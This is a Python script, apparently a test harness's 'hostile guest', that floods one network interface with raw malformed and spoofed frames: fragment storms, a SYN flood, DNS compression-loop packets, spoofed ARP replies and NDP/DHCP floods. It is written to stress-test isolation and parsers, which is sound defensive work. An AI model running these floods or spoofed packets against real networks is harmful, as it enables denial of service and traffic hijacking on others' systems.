#!/usr/bin/env python3
# A hostile guest: writes a barrage of malformed, spoofed and costly frames raw onto one
# interface (an AF_PACKET socket) from inside the namespace it runs in, unpaced, until stopped.
#
# Usage (inside the attacker's namespace):
#   hostile-flood.py --iface DEV --gateway-mac MAC --guest-mac MAC --gateway-ip A --guest-ip A
#                    [--gateway-ip6 A] [--guest-ip6 A] [--syn-port N] [--seconds S] [--rate N]
# Every frame leaves on DEV only. Addresses other than the gateway's and the guest's own are in
# 198.18.0.0/15 (RFC 2544's benchmarking range), the guest's subnet or link-local/multicast
# groups, never a routed range. At the end it prints one JSON line: frames written, errors, and
# the rate reached.
import argparse
import ipaddress
import json
import random
import signal
import socket
import struct
import sys
import time

ETH_P_ALL = 0x0003


def mac_bytes(text):
    return bytes(int(x, 16) for x in text.split(":"))


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def eth(dst, src, ethertype, payload):
    return dst + src + struct.pack("!H", ethertype) + payload


def ipv4(src, dst, proto, payload, ident=0, frag=0x4000, ttl=64, bad_checksum=False, total=None, ihl=5, version=4):
    header = struct.pack("!BBHHHBBH4s4s", version << 4 | ihl, 0, total if total is not None else 20 + len(payload),
                         ident, frag, ttl, proto, 0, src, dst)
    c = checksum(header)
    if bad_checksum:
        c ^= 0x5A5A
    return header[:10] + struct.pack("!H", c) + header[12:] + payload


def pseudo4(src, dst, proto, length):
    return src + dst + struct.pack("!BBH", 0, proto, length)


def pseudo6(src, dst, proto, length):
    return src + dst + struct.pack("!IxxxB", length, proto)


def tcp(pseudo, sport, dport, flags, seq=0, ack=0, payload=b"", bad_checksum=False):
    header = struct.pack("!HHIIBBHHH", sport, dport, seq, ack, 5 << 4, flags, 65535, 0, 0)
    segment = header + payload
    c = checksum(pseudo(len(segment)) + segment)
    if bad_checksum:
        c ^= 0x1234
    return segment[:16] + struct.pack("!H", c) + segment[18:]


def udp(pseudo, sport, dport, payload, bad_checksum=False):
    length = 8 + len(payload)
    datagram = struct.pack("!HHHH", sport, dport, length, 0) + payload
    c = checksum(pseudo(length) + datagram) or 0xFFFF
    if bad_checksum:
        c ^= 0x4321
    return datagram[:6] + struct.pack("!H", c) + datagram[8:]


def ipv6(src, dst, next_header, payload, hop_limit=64, length=None):
    return struct.pack("!IHBB", 6 << 28, len(payload) if length is None else length, next_header, hop_limit) + src + dst + payload


def icmpv6(src, dst, body):
    c = checksum(pseudo6(src, dst, 58, len(body)) + body)
    return body[:2] + struct.pack("!H", c) + body[4:]


def dns_compression_loop(ident):
    # One question whose name is a pointer to itself (offset 12), and another pair pointing at
    # each other: a parser that follows pointers without a bound never ends.
    header = struct.pack("!HHHHHH", ident, 0x0100, 2, 0, 0, 0)
    return header + b"\xc0\x0c" + b"\x00\x01\x00\x01" + b"\x03abc\xc0\x1a\x00\x01\x00\x01"


def dns_truncated(ident):
    return struct.pack("!HHHHHH", ident, 0x0100, 5, 0, 0, 0) + b"\x3fabc"


def dhcp_discover(mac, xid):
    bootp = struct.pack("!BBBBIHH4s4s4s4s", 1, 1, 6, 0, xid, 0, 0x8000, b"\0" * 4, b"\0" * 4, b"\0" * 4, b"\0" * 4)
    bootp += mac + b"\0" * 10 + b"\0" * 192 + b"\x63\x82\x53\x63" + b"\x35\x01\x01" + b"\xff"
    return bootp


def arp(op, sender_mac, sender_ip, target_mac, target_ip):
    return struct.pack("!HHBBH6s4s6s4s", 1, 0x0800, 6, 4, op, sender_mac, sender_ip, target_mac, target_ip)


def build(args):
    rnd = random.Random(7)
    gw_mac, guest_mac = mac_bytes(args.gateway_mac), mac_bytes(args.guest_mac)
    gw4, guest4 = socket.inet_aton(args.gateway_ip), socket.inet_aton(args.guest_ip)
    gw6 = ipaddress.IPv6Address(args.gateway_ip6).packed if args.gateway_ip6 else None
    guest6 = ipaddress.IPv6Address(args.guest_ip6).packed if args.guest_ip6 else None
    link_local = ipaddress.IPv6Address("fe80::" + ":".join(args.guest_mac.split(":")[i] + args.guest_mac.split(":")[i + 1] for i in (0, 2, 4))).packed
    broadcast = b"\xff" * 6

    def bench():  # an address in 198.18.0.0/15
        return bytes([198, 18 + rnd.randrange(2), rnd.randrange(256), rnd.randrange(1, 255)])

    def stranger_mac():  # locally administered unicast, never the gateway's
        return bytes([0x02, rnd.randrange(256), rnd.randrange(256), rnd.randrange(256), rnd.randrange(256), rnd.randrange(256)])

    def p4(s, d, proto):
        return lambda n: pseudo4(s, d, proto, n)

    def p6(s, d, proto):
        return lambda n: pseudo6(s, d, proto, n)

    kinds = {}

    def add(kind, frame):
        kinds.setdefault(kind, []).append(frame)

    for i in range(64):
        sport = rnd.randrange(1024, 65535)
        ident = rnd.randrange(65536)
        # Bad lengths.
        add("runt", bytes(rnd.randrange(1, 14)))
        add("runt", eth(gw_mac, guest_mac, 0x0800, b""))
        add("bad-length", eth(gw_mac, guest_mac, 0x0800, ipv4(guest4, gw4, 17, udp(p4(guest4, gw4, 17), sport, 9, b"x" * 8), total=1400)))
        add("bad-length", eth(gw_mac, guest_mac, 0x0800, ipv4(guest4, gw4, 6, b"", total=8)))
        add("bad-length", eth(gw_mac, guest_mac, 0x0800, ipv4(guest4, gw4, 6, b"\0" * 12, ihl=15)))
        add("bad-length", eth(gw_mac, guest_mac, 0x0800, ipv4(guest4, gw4, 6, b"\0" * 40, version=5)))
        add("bad-length", eth(gw_mac, guest_mac, 0x0800, ipv4(guest4, gw4, 6, tcp(p4(guest4, gw4, 6), sport, 80, 0x10)[:12])))
        if guest6:
            add("bad-length", eth(gw_mac, guest_mac, 0x86DD, ipv6(guest6, gw6, 17, udp(p6(guest6, gw6, 17), sport, 9, b"y" * 8), length=1200)))
        # Bad checksums.
        add("bad-checksum", eth(gw_mac, guest_mac, 0x0800, ipv4(guest4, gw4, 17, udp(p4(guest4, gw4, 17), sport, 9, b"z" * 16), bad_checksum=True)))
        add("bad-checksum", eth(gw_mac, guest_mac, 0x0800, ipv4(guest4, gw4, 6, tcp(p4(guest4, gw4, 6), sport, args.syn_port, 0x10, seq=ident, bad_checksum=True))))
        add("bad-checksum", eth(gw_mac, guest_mac, 0x0800, ipv4(guest4, bench(), 17, udp(p4(guest4, gw4, 17), sport, 9, b"w" * 16, bad_checksum=True))))
        # Wrong MACs and IPs.
        add("wrong-mac", eth(stranger_mac(), guest_mac, 0x0800, ipv4(guest4, gw4, 17, udp(p4(guest4, gw4, 17), sport, 9, b"m" * 16))))
        add("spoofed-mac", eth(gw_mac, stranger_mac(), 0x0800, ipv4(guest4, gw4, 17, udp(p4(guest4, gw4, 17), sport, 9, b"s" * 16))))
        spoofed = bench()
        add("spoofed-ip", eth(gw_mac, guest_mac, 0x0800, ipv4(spoofed, gw4, 6, tcp(p4(spoofed, gw4, 6), sport, args.syn_port, 0x02, seq=ident))))
        add("spoofed-ip", eth(gw_mac, guest_mac, 0x0800, ipv4(gw4, gw4, 17, udp(p4(gw4, gw4, 17), 53, 53, b"q" * 12))))
        stranger = bench()
        add("denied-destination", eth(gw_mac, guest_mac, 0x0800, ipv4(guest4, stranger, 17, udp(p4(guest4, stranger, 17), sport, 9, b"d" * 32))))
        add("denied-destination", eth(gw_mac, guest_mac, 0x0800, ipv4(guest4, stranger, 17, udp(p4(guest4, stranger, 17), sport, 9, b"t"), ttl=1)))
        add("no-flow", eth(gw_mac, guest_mac, 0x0800, ipv4(guest4, gw4, 6, tcp(p4(guest4, gw4, 6), sport, args.syn_port, 0x10, seq=ident, ack=ident))))
        # IPv4 fragment storm: first fragments whose rest never comes, and overlapping tails.
        body = udp(p4(guest4, gw4, 17), sport, 9, bytes(rnd.randrange(256) for _ in range(64)))
        add("fragment4", eth(gw_mac, guest_mac, 0x0800, ipv4(guest4, gw4, 17, body[:48], ident=ident, frag=0x2000)))
        add("fragment4", eth(gw_mac, guest_mac, 0x0800, ipv4(guest4, gw4, 17, body[40:], ident=ident, frag=5)))
        add("fragment4", eth(gw_mac, guest_mac, 0x0800, ipv4(guest4, gw4, 17, body[:48], ident=ident ^ 1, frag=0x2000 | rnd.randrange(1, 8000))))
        add("fragment4", eth(gw_mac, guest_mac, 0x0800, ipv4(guest4, gw4, 17, body[:16], ident=ident ^ 2, frag=0x2000)))
        # IPv6 fragment storm.
        if guest6:
            fragment = struct.pack("!BBHI", 17, 0, 0x0001, rnd.randrange(1 << 32)) + udp(p6(guest6, gw6, 17), sport, 9, b"f" * 64)[:48]
            add("fragment6", eth(gw_mac, guest_mac, 0x86DD, ipv6(guest6, gw6, 44, fragment)))
            fragment = struct.pack("!BBHI", 17, 0, (rnd.randrange(1, 8000) << 3), rnd.randrange(1 << 32)) + b"g" * 48
            add("fragment6", eth(gw_mac, guest_mac, 0x86DD, ipv6(guest6, gw6, 44, fragment)))
        # SYN flood to the gateway's address (the host's loopback behind it).
        add("syn", eth(gw_mac, guest_mac, 0x0800, ipv4(guest4, gw4, 6, tcp(p4(guest4, gw4, 6), sport, args.syn_port, 0x02, seq=ident << 8))))
        if guest6:
            add("syn", eth(gw_mac, guest_mac, 0x86DD, ipv6(guest6, gw6, 6, tcp(p6(guest6, gw6, 6), sport, args.syn_port, 0x02, seq=ident))))
        # DNS to the gateway: compression loops and truncated questions.
        add("dns", eth(gw_mac, guest_mac, 0x0800, ipv4(guest4, gw4, 17, udp(p4(guest4, gw4, 17), sport, 53, dns_compression_loop(ident)))))
        add("dns", eth(gw_mac, guest_mac, 0x0800, ipv4(guest4, gw4, 17, udp(p4(guest4, gw4, 17), sport, 53, dns_truncated(ident)))))
        # ARP: requests for the gateway and for strangers, announcements, a spoofed sender.
        add("arp", eth(broadcast, guest_mac, 0x0806, arp(1, guest_mac, guest4, b"\0" * 6, gw4)))
        add("arp", eth(broadcast, guest_mac, 0x0806, arp(1, guest_mac, guest4, b"\0" * 6, bench())))
        add("arp", eth(broadcast, guest_mac, 0x0806, arp(1, guest_mac, gw4, b"\0" * 6, gw4)))
        add("arp", eth(gw_mac, guest_mac, 0x0806, arp(2, stranger_mac(), bench(), gw_mac, gw4)))
        add("arp", eth(broadcast, guest_mac, 0x0806, b"\0\1\x08"))
        # NDP: neighbour solicitations for the gateway, router solicitations.
        if gw6:
            target_multicast = b"\xff\x02" + b"\0" * 9 + b"\x01\xff" + gw6[13:]
            ns_body = struct.pack("!BBHI", 135, 0, 0, 0) + gw6 + b"\x01\x01" + guest_mac
            add("ndp", eth(b"\x33\x33\xff" + gw6[13:], guest_mac, 0x86DD,
                           ipv6(link_local, target_multicast, 58, icmpv6(link_local, target_multicast, ns_body), hop_limit=255)))
            all_routers = b"\xff\x02" + b"\0" * 13 + b"\x02"
            rs_body = struct.pack("!BBHI", 133, 0, 0, 0) + b"\x01\x01" + guest_mac
            add("ndp", eth(b"\x33\x33\x00\x00\x00\x02", guest_mac, 0x86DD,
                           ipv6(link_local, all_routers, 58, icmpv6(link_local, all_routers, rs_body), hop_limit=255)))
            add("ndp", eth(b"\x33\x33\x00\x00\x00\x02", guest_mac, 0x86DD,
                           ipv6(link_local, all_routers, 58, icmpv6(link_local, all_routers, rs_body), hop_limit=64)))
        # DHCP discovers, broadcast.
        zero, everyone = b"\0" * 4, b"\xff" * 4
        add("dhcp", eth(broadcast, guest_mac, 0x0800,
                        ipv4(zero, everyone, 17, udp(p4(zero, everyone, 17), 68, 67, dhcp_discover(guest_mac, rnd.randrange(1 << 32))))))
        # Pings to the gateway.
        echo = struct.pack("!BBHHH", 8, 0, 0, ident, i) + b"p" * 32
        echo = echo[:2] + struct.pack("!H", checksum(echo)) + echo[4:]
        add("echo", eth(gw_mac, guest_mac, 0x0800, ipv4(guest4, gw4, 1, echo)))
    # Interleaved, so every kind keeps coming throughout.
    pools = list(kinds.values())
    frames = []
    for i in range(max(len(p) for p in pools)):
        for p in pools:
            if i < len(p):
                frames.append(p[i])
    return frames, {k: len(v) for k, v in kinds.items()}


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--iface", required=True)
    ap.add_argument("--gateway-mac", required=True)
    ap.add_argument("--guest-mac", required=True)
    ap.add_argument("--gateway-ip", required=True)
    ap.add_argument("--guest-ip", required=True)
    ap.add_argument("--gateway-ip6")
    ap.add_argument("--guest-ip6")
    ap.add_argument("--syn-port", type=int, default=9, help="TCP port the SYNs ask for on the gateway address")
    ap.add_argument("--seconds", type=float, default=0, help="stop after this long (0: until SIGTERM/SIGINT)")
    ap.add_argument("--rate", type=int, default=0, help="frames per second (0: as fast as it goes)")
    args = ap.parse_args()
    for a in (args.gateway_ip, args.guest_ip):
        if not isinstance(ipaddress.ip_address(a), ipaddress.IPv4Address):
            sys.exit(f"{a}: not an IPv4 address")

    frames, kinds = build(args)
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
    s.bind((args.iface, 0))
    s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 20)
    stopping = []
    for sig in (signal.SIGTERM, signal.SIGINT):
        signal.signal(sig, lambda *_: stopping.append(1))
    # A parent that blocked these (some test runners' threads do) passes the mask on.
    signal.pthread_sigmask(signal.SIG_UNBLOCK, {signal.SIGTERM, signal.SIGINT})
    sent = errors = 0
    start = time.monotonic()
    end = start + args.seconds if args.seconds > 0 else float("inf")
    send = s.send
    n = len(frames)
    i = 0
    while not stopping:
        for _ in range(256):
            try:
                send(frames[i])
                sent += 1
            except OSError:
                errors += 1
            i = i + 1 if i + 1 < n else 0
        now = time.monotonic()
        if now >= end:
            break
        if args.rate > 0:
            ahead = sent / args.rate - (now - start)
            if ahead > 0:
                time.sleep(ahead)
    elapsed = time.monotonic() - start
    print(json.dumps({"sent": sent, "errors": errors, "seconds": round(elapsed, 3),
                      "per_second": round(sent / elapsed) if elapsed > 0 else 0, "kinds": kinds}), flush=True)


if __name__ == "__main__":
    main()
